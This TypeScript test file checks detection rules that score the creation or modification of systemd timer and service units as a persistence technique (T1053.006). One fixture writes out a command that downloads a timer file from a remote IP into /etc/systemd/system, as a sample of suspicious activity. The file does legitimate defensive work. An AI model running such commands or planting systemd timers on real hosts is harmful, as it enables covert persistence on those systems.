import { describe, expect, test } from 'vitest';
import {
  t1053LinuxSystemdServiceCreated as service,
  t1053LinuxSystemdTimerCreated as timer,
} from '../../../src/t1053/extended/linux-systemd-unit.ts';
import { auditedFile, moved, sysmonFile } from '../linux-events.ts';
import { scores, told } from './host-run.ts';

const TIMER = '/etc/systemd/system/backup2.timer';
const SERVICE = '/etc/systemd/system/backup2.service';
const HOME = '/home/ann/.config/systemd/user/x.timer';

describe('a timer', () => {
  test.each([
    ['a new file', auditedFile(TIMER)],
    ['a move', moved(TIMER, '/tmp/x')],
    ['a change', auditedFile(TIMER, { op: 'write', access: 'append' })],
    ['one of a user', auditedFile(HOME, { user: 'ann' })],
    ['a link', auditedFile(TIMER, { link: 'symbolic', linkTarget: '/opt/x.timer' })],
    ['a piece of one', auditedFile(`${TIMER}.d/override.conf`)],
    ['by Sysmon', sysmonFile(TIMER, '/usr/bin/vim')],
  ])('%s', (_, event) => {
    expect(scores(timer, event)).toEqual([30]);
    expect(scores(service, event)).toEqual([]);
  });

  test('says which unit it is, and whether it is new', () => {
    expect(told(timer, [auditedFile(TIMER)])[0]).toMatchObject({
      summary: `${TIMER} was created on web01 by root`,
      details: { unit: 'backup2.timer', scope: 'system', filePath: TIMER },
      attack: { techniques: [{ id: 'T1053' }, { id: 'T1053.006' }] },
    });
    const changed = told(timer, [moved(TIMER, '/tmp/x', { isReplacement: true })]);
    expect(changed[0]?.summary).toContain('was changed');
  });

  test('what the writer loads, and a name that imitates one of the system', () => {
    const commandLine = `curl -o ${TIMER} http://203.0.113.9/t`;
    expect(scores(timer, auditedFile(TIMER, { commandLine }))).toEqual([50]);
    expect(scores(timer, auditedFile('/etc/systemd/system/dbus-x1.timer'))).toEqual([40]);
  });

  test('a package manager ranks low', () => {
    expect(scores(timer, auditedFile(TIMER, { image: '/usr/bin/dpkg' }))).toEqual([0]);
  });

  test.each([
    ['a passing name', auditedFile(`${TIMER}.dpkg-new`)],
    ['a backup', auditedFile(`/backup${TIMER}`)],
    ['what systemd-run makes', auditedFile('/run/systemd/transient/run-u1.timer')],
    ['what systemd writes', auditedFile(TIMER, { image: '/usr/lib/systemd/systemd' })],
    ['a link that enables it', auditedFile('/etc/systemd/system/timers.target.wants/x.timer')],
    ['a removal', auditedFile(TIMER, { op: 'delete' })],
    ['other rights', auditedFile(TIMER, { op: 'attr' })],
    ['a failure', auditedFile(TIMER, { isSuccess: false })],
    ['a setting of a daemon', auditedFile('/etc/systemd/timesyncd.conf')],
    ['a stamp', auditedFile('/var/lib/systemd/timers/stamp-x.timer')],
  ])('%s is silent', (_, event) => {
    expect(scores(timer, event)).toEqual([]);
  });
});

describe('a service', () => {
  test('ranks lower than a timer, and lowest by a package manager', () => {
    expect(scores(service, auditedFile(SERVICE))).toEqual([20]);
    expect(scores(service, auditedFile(SERVICE, { image: '/usr/bin/rpm' }))).toEqual([0]);
    expect(scores(service, auditedFile(SERVICE, { user: 'www-data' }))).toEqual([45]);
  });

  test.each([
    ['a timer', auditedFile(TIMER)],
    ['a socket', auditedFile('/etc/systemd/system/x.socket')],
    ['a copy', auditedFile('/srv/build/x.service')],
    ['a removal', auditedFile(SERVICE, { op: 'delete' })],
  ])('%s is silent', (_, event) => {
    expect(scores(service, event)).toEqual([]);
  });
});
